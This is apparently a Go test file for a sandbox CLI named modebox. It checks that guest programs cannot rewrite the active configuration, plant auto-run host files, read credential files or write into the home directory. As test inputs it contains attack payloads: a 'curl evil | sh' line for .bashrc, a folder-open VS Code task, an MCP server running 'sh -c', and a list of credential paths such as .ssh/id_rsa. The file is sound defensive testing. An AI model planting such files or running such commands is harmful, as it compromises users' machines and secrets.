package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// fsProject makes a project directory that is also $HOME (the worst
// case: a mount of "." reaches modebox's own state), with modebox's
// directories moved by the environment where dirs says so, and writes
// conf as the configuration file name in it. It returns the project and
// the configuration file's path.
func fsProject(t *testing.T, name, conf string) (string, string) {
	t.Helper()
	// modebox's state inside the project, the worst case (a read-write
	// mount that holds the home directory is refused: TestFSMountNotHome)
	proj := t.TempDir()
	t.Setenv("HOME", t.TempDir())
	for _, v := range []string{"MODEBOX_CACHE_DIR", "MODEBOX_SECRET", "MODEBOX_CONFIG", "MODEBOX_TOKEN_STORE"} {
		t.Setenv(v, "")
		os.Unsetenv(v)
	}
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(proj, ".config"))
	t.Setenv("XDG_STATE_HOME", filepath.Join(proj, ".local", "state"))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(proj, ".cache"))
	cfgPath := filepath.Join(proj, name)
	if err := os.WriteFile(cfgPath, []byte(conf), 0o644); err != nil {
		t.Fatal(err)
	}
	return proj, cfgPath
}

// runFS runs prog with the configuration at cfgPath and decodes its
// result into v.
func runFS(t *testing.T, cfgPath, prog string, v any) {
	t.Helper()
	code, stdout, stderr := runCLI(t, prog, "run", "--config", cfgPath, "-")
	if code != ExitOK {
		t.Fatalf("exit %d: %s %s", code, stdout, stderr)
	}
	if err := json.Unmarshal([]byte(stdout), v); err != nil {
		t.Fatalf("%v: %s", err, stdout)
	}
}

// TestFSCannotRewriteItsConfig does what an attacker did through the CLI
// with a read-write mount of the project: read modebox.json, add a
// read-write mount of "/" to it and write it back, so that the next run
// could read /etc/shadow; and the same with a configuration file of
// another name, which only the "configuration in use" rule protects. The
// file in use is hidden (not read, listed, globbed or found) and cannot
// be written or removed; the host file is unchanged; an ordinary file
// next to it is written, so the test could fail.
func TestFSCannotRewriteItsConfig(t *testing.T) {
	for _, name := range []string{"modebox.json", "agent.json"} {
		t.Run(name, func(t *testing.T) {
			conf := `{"fs": {"mounts": [{"host": ".", "guest": "/work", "mode": "rw"}]}}`
			proj, cfgPath := fsProject(t, name, conf)
			p := "/work/" + name
			prog := `
const r: any = {};
try { const cfg = JSON.parse(await fs.read("` + p + `")); r.read = "read"; } catch (e: any) { r.read = e.code; }
try { await fs.stat("` + p + `"); r.stat = "found"; } catch (e: any) { r.stat = e.code; }
r.exists = await fs.exists("` + p + `");
r.list = (await fs.list("/work")).map((e: any) => e.name);
r.glob = await fs.glob("/work/*.json");
const evil = JSON.stringify({fs: {mounts: [{host: ".", guest: "/work", mode: "rw"}, {host: "/", guest: "/host", mode: "rw"}]}});
try { await fs.write("` + p + `", evil); r.write = "staged"; } catch (e: any) { r.write = e.code; }
try { await fs.remove("` + p + `"); r.remove = "staged"; } catch (e: any) { r.remove = e.code; }
await fs.write("/work/notes.txt", "fine");
return r;
`
			var r struct {
				Read, Write, Remove, Stat string
				Exists                    bool
				List, Glob                []string
			}
			runFS(t, cfgPath, prog, &r)
			if r.Read != "FS_NOT_FOUND" || r.Write != "FS_DENIED" || r.Remove != "FS_DENIED" || r.Stat != "FS_NOT_FOUND" || r.Exists {
				t.Errorf("the configuration file in use is reachable: %+v", r)
			}
			if slices.Contains(r.List, name) || len(r.Glob) != 0 {
				t.Errorf("the configuration file in use is listed: %v %v", r.List, r.Glob)
			}
			if b, _ := os.ReadFile(cfgPath); string(b) != conf {
				t.Errorf("%s rewritten: %s", name, b)
			}
			if b, err := os.ReadFile(filepath.Join(proj, "notes.txt")); err != nil || string(b) != "fine" {
				t.Errorf("the mount is not writable at all (the test could not fail): %q %v", b, err)
			}
		})
	}
}

// plantProgram tries to plant, through /work, each file of plantFiles
// and to remove an existing .vscode/settings.json, and returns what each
// call answered.
const plantProgram = `
const r: any = {};
for (const [p, c] of [
  ["/work/.mcp.json", '{"mcpServers":{"x":{"command":"sh","args":["-c","id > /tmp/pwned"]}}}'],
  ["/work/.vscode/tasks.json", '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"id","runOptions":{"runOn":"folderOpen"}}]}'],
  ["/work/.bashrc", "curl evil | sh\n"],
  ["/work/.husky/pre-commit", "id\n"],
  ["/work/.pre-commit-config.yaml", "repos: []\n"],
  ["/work/.devcontainer/devcontainer.json", '{"postCreateCommand":"id"}'],
  ["/work/.cursor/mcp.json", "{}"],
  ["/work/.modebox/x", "x"],
  ["/work/.VSCode/tasks.json", "{}"],
  ["/work/modebox.json", "{}"],
  ["/work/notes.txt", "fine"],
]) { try { await fs.write(p, c); r[p] = "staged"; } catch (e: any) { r[p] = e.code; } }
try { r.read = await fs.read("/work/.vscode/settings.json"); } catch (e: any) { r.read = e.code; }
try { await fs.remove("/work/.vscode/settings.json"); r.remove = "staged"; } catch (e: any) { r.remove = e.code; }
return r;
`

// plantFiles are the files plantProgram writes, relative to the project.
var plantFiles = []string{".mcp.json", ".vscode/tasks.json", ".bashrc", ".husky/pre-commit", ".pre-commit-config.yaml",
	".devcontainer/devcontainer.json", ".cursor/mcp.json", ".modebox/x", ".VSCode/tasks.json", "modebox.json"}

// TestFSCannotPlantHostFiles does what an attacker did through the CLI
// with a read-write mount of the project: plant files the host's tools
// run or load later (.mcp.json, .vscode/tasks.json, .bashrc, a husky
// hook, .pre-commit-config.yaml, .devcontainer, .cursor, .modebox,
// modebox.json) and remove an existing .vscode/settings.json. The
// configuration in use is elsewhere, so modebox.json is an ordinary
// protected name here. Every attempt fails with FS_DENIED and nothing is
// written; the protected file stays readable; an ordinary file is
// written, so the test could fail.
func TestFSCannotPlantHostFiles(t *testing.T) {
	proj, cfgPath := fsProject(t, "cfg.json", `{"fs": {"mounts": [{"host": "work", "guest": "/work", "mode": "rw"}]}}`)
	work := filepath.Join(proj, "work")
	if err := os.MkdirAll(filepath.Join(work, ".vscode"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(work, ".vscode", "settings.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	var r map[string]string
	runFS(t, cfgPath, plantProgram, &r)
	for _, f := range plantFiles {
		if r["/work/"+f] != "FS_DENIED" {
			t.Errorf("%s: %s, want FS_DENIED", f, r["/work/"+f])
		}
		if _, err := os.Lstat(filepath.Join(work, f)); err == nil {
			t.Errorf("%s planted", f)
		}
	}
	if r["remove"] != "FS_DENIED" || r["read"] != "{}" {
		t.Errorf("existing protected file: remove %s, read %s", r["remove"], r["read"])
	}
	if _, err := os.Stat(filepath.Join(work, ".vscode", "settings.json")); err != nil {
		t.Errorf(".vscode/settings.json removed: %v", err)
	}
	if b, err := os.ReadFile(filepath.Join(work, "notes.txt")); err != nil || string(b) != "fine" {
		t.Errorf("the mount is not writable at all (the test could not fail): %q %v", b, err)
	}
}

// TestFSAllowWrite checks the opt-out: "allowWrite" leaves the names it
// lists for a mount writable there (and only those); ["*"] leaves every
// protected name writable, but never the configuration file in use.
func TestFSAllowWrite(t *testing.T) {
	for _, tc := range []struct {
		allow   string
		allowed []string
	}{
		{`[".vscode", ".mcp.json"]`, []string{".vscode/tasks.json", ".mcp.json", ".VSCode/tasks.json"}},
		{`["*"]`, plantFiles},
	} {
		t.Run(tc.allow, func(t *testing.T) {
			proj, cfgPath := fsProject(t, "modebox.json", `{"fs": {"mounts": [{"host": "work", "guest": "/work", "mode": "rw"}], "allowWrite": {"/work": `+tc.allow+`}}}`)
			work := filepath.Join(proj, "work")
			if err := os.MkdirAll(filepath.Join(work, ".vscode"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(work, ".vscode", "settings.json"), []byte("{}"), 0o644); err != nil {
				t.Fatal(err)
			}
			var r map[string]string
			runFS(t, cfgPath, plantProgram, &r)
			for _, f := range plantFiles {
				want := "FS_DENIED"
				if slices.Contains(tc.allowed, f) {
					want = "staged"
				}
				if r["/work/"+f] != want {
					t.Errorf("%s: %s, want %s", f, r["/work/"+f], want)
				}
				_, err := os.Lstat(filepath.Join(work, f))
				if (err == nil) != (want == "staged") {
					t.Errorf("%s: on disk %v, want written %v", f, err == nil, want == "staged")
				}
			}
			wantRemove := "FS_DENIED"
			if slices.Contains(tc.allowed, ".vscode/tasks.json") {
				wantRemove = "staged"
			}
			if r["remove"] != wantRemove {
				t.Errorf("remove .vscode/settings.json: %s, want %s", r["remove"], wantRemove)
			}
		})
	}
	// "*" does not reach the configuration file in use.
	conf := `{"fs": {"mounts": [{"host": ".", "guest": "/work", "mode": "rw"}], "allowWrite": {"/work": ["*"]}}}`
	_, cfgPath := fsProject(t, "modebox.json", conf)
	var r map[string]string
	runFS(t, cfgPath, `const r: any = {}; try { await fs.write("/work/modebox.json", "{}"); r.w = "staged"; } catch (e: any) { r.w = e.code; } return r;`, &r)
	if r["w"] != "FS_DENIED" {
		t.Errorf("allowWrite [\"*\"] opened the configuration in use: %v", r)
	}
	if b, _ := os.ReadFile(cfgPath); string(b) != conf {
		t.Errorf("modebox.json rewritten: %s", b)
	}
}

// TestFSHidesModeboxState mounts a project that is also $HOME, with the
// key directory, the engine cache and the used-token store moved by the
// environment to names no credential pattern covers, and has the program
// look for the key, plant a token record and list the state. Nothing of
// it is reachable; a mount of the key directory itself is refused at
// start.
func TestFSHidesModeboxState(t *testing.T) {
	proj, cfgPath := fsProject(t, "modebox.json", `{"fs": {"mounts": [{"host": ".", "guest": "/work", "mode": "rw"}]}}`)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(proj, "conf"))
	t.Setenv("MODEBOX_CACHE_DIR", filepath.Join(proj, "enginecache"))
	t.Setenv("MODEBOX_TOKEN_STORE", filepath.Join(proj, "tokens"))
	// a valid key file, as the first run that needs continuations makes it
	if err := os.MkdirAll(filepath.Join(proj, "conf", "modebox"), 0o700); err != nil {
		t.Fatal(err)
	}
	const keyLine = "c2VjcmV0LWtleS1tYXRlcmlhbC0wMTIzNDU2Nzg5YWI="
	if err := os.WriteFile(filepath.Join(proj, "conf", "modebox", "secret"), []byte(keyLine+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"enginecache", "tokens"} {
		if err := os.MkdirAll(filepath.Join(proj, d), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(proj, d, "f"), []byte("STATE"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	prog := `
const r: any = {};
for (const p of ["/work/conf/modebox/secret", "/work/enginecache/f", "/work/tokens/f"]) {
  try { r[p] = await fs.read(p); } catch (e: any) { r[p] = e.code; }
}
try { await fs.write("/work/tokens/0123456789abcdef0123456789abcdef", ""); r.plant = "staged"; } catch (e: any) { r.plant = e.code; }
r.list = (await fs.list("/work")).map((e: any) => e.name);
r.glob = await fs.glob("/work/**");
return r;
`
	var r map[string]any
	runFS(t, cfgPath, prog, &r)
	for _, p := range []string{"/work/conf/modebox/secret", "/work/enginecache/f", "/work/tokens/f"} {
		if r[p] != "FS_NOT_FOUND" {
			t.Errorf("%s: %v", p, r[p])
		}
	}
	if r["plant"] != "FS_DENIED" {
		t.Errorf("token record planted: %v", r["plant"])
	}
	seen, _ := json.Marshal([]any{r["list"], r["glob"]})
	for _, bad := range []string{"enginecache", "tokens", "conf/modebox", "modebox.json"} {
		if strings.Contains(string(seen), bad) {
			t.Errorf("list or glob shows %s: %s", bad, seen)
		}
	}
	if !strings.Contains(string(seen), `"/work/conf"`) {
		t.Errorf("glob found nothing (the test could not fail): %s", seen)
	}
	if out, _ := json.Marshal(r); strings.Contains(string(out), keyLine) {
		t.Errorf("key material in the output")
	}
	conf := `{"fs": {"mounts": [{"host": "conf/modebox", "guest": "/keys"}]}}`
	if err := os.WriteFile(cfgPath, []byte(conf), 0o644); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := runCLI(t, `return await fs.read("/keys/secret")`, "run", "--config", cfgPath, "-")
	if code != ExitConfig || strings.Contains(stdout, keyLine) {
		t.Errorf("a mount of the key directory: exit %d: %s %s", code, stdout, stderr)
	}
	t.Log(stderr)
}

// TestFSHidesHomeCredentials mounts a home directory read-only, as an
// attacker's operator might, and reads the credential files whose names
// have several components (.config/gh, .cargo/credentials.toml, ...).
// Every one is FS_NOT_FOUND, like .ssh/id_rsa; so is a file a "deny"
// pattern with a "/" names; an ordinary file is read.
func TestFSHidesHomeCredentials(t *testing.T) {
	proj, cfgPath := fsProject(t, "modebox.json", `{"fs": {"mounts": [{"host": "home", "guest": "/home"}], "deny": ["app/state/token"]}}`)
	files := []string{".ssh/id_rsa", ".config/gh/hosts.yml", ".config/gcloud/application_default_credentials.json",
		".cargo/credentials.toml", ".cache/huggingface/token", ".gradle/gradle.properties", ".config/modebox/secret",
		".local/share/keyrings/login.keyring", ".config/google-chrome/Default/Cookies", ".config/containers/auth.json",
		".m2/settings.xml", "app/state/token", "work/app/state/token"}
	for _, f := range append(slices.Clone(files), "notes.txt", "app/state/other") {
		p := filepath.Join(proj, "home", f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("SECRET "+f), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	fj, _ := json.Marshal(files)
	prog := `
const r: any = {};
for (const f of ` + string(fj) + `) {
  try { r[f] = (await fs.read("/home/" + f)).trim(); } catch (e: any) { r[f] = e.code; }
}
r.notes = await fs.read("/home/notes.txt");
r.other = await fs.read("/home/app/state/other");
r.config = (await fs.list("/home/.config")).map((e: any) => e.name);
r.glob = await fs.glob("/home/**");
return r;
`
	var r map[string]any
	runFS(t, cfgPath, prog, &r)
	for _, f := range files {
		if r[f] != "FS_NOT_FOUND" {
			t.Errorf("%s: %v", f, r[f])
		}
	}
	if r["notes"] != "SECRET notes.txt" || r["other"] != "SECRET app/state/other" {
		t.Errorf("ordinary files unreadable (the test could not fail): %v %v", r["notes"], r["other"])
	}
	if l, _ := json.Marshal(r["config"]); string(l) != `["containers"]` {
		t.Errorf("/home/.config lists %s", l)
	}
	hiddenRoots := []string{".ssh", ".config/gh", ".config/gcloud", ".cargo/credentials.toml", ".cache/huggingface/token",
		".gradle/gradle.properties", ".config/modebox", ".local/share/keyrings", ".config/google-chrome",
		".config/containers/auth.json", ".m2/settings.xml", "app/state/token", "work/app/state/token"}
	glob, _ := r["glob"].([]any)
	if len(glob) < 5 {
		t.Errorf("glob found almost nothing (the test could not fail): %v", glob)
	}
	for _, g := range glob {
		for _, h := range hiddenRoots {
			if s, _ := g.(string); s == "/home/"+h || strings.HasPrefix(s, "/home/"+h+"/") {
				t.Errorf("glob shows %s", s)
			}
		}
	}
}

// TestFSMountNotHome: a read-write mount that is or holds the home
// directory is refused (a program could create .bash_profile,
// .config/autostart entries or .local/bin programs there, which no list
// of names covers while they do not exist); read-only it is allowed.
func TestFSMountNotHome(t *testing.T) {
	parent := t.TempDir()
	home := filepath.Join(parent, "me")
	if err := os.Mkdir(home, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", home)
	for _, host := range []string{home, parent} {
		cfgPath := filepath.Join(t.TempDir(), "modebox.json")
		conf := `{"fs": {"mounts": [{"host": ` + jsonQ(host) + `, "guest": "/h", "mode": "rw"}]}}`
		if err := os.WriteFile(cfgPath, []byte(conf), 0o644); err != nil {
			t.Fatal(err)
		}
		prog := `await fs.write("/h/.bash_logout", "touch /tmp/pwned"); return "WROTE"`
		code, stdout, stderr := runCLI(t, prog, "run", "--config", cfgPath, "-")
		if code == ExitOK || strings.Contains(stdout, "WROTE") || !strings.Contains(stderr, "FS_CONFIG") || !strings.Contains(stderr, "home directory") {
			t.Errorf("rw mount of %s: exit %d, stdout %q, stderr %q", host, code, stdout, stderr)
		}
		if _, err := os.Stat(filepath.Join(home, ".bash_logout")); err == nil {
			t.Errorf("rw mount of %s: .bash_logout created in the home", host)
		}
	}
	cfgPath := filepath.Join(t.TempDir(), "modebox.json")
	if err := os.WriteFile(filepath.Join(home, "notes.txt"), []byte("hi"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(cfgPath, []byte(`{"fs": {"mounts": [{"host": `+jsonQ(home)+`, "guest": "/h"}]}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	var got string
	runFS(t, cfgPath, `return await fs.read("/h/notes.txt")`, &got)
	if got != "hi" {
		t.Errorf("read-only mount of the home: %q", got)
	}
}
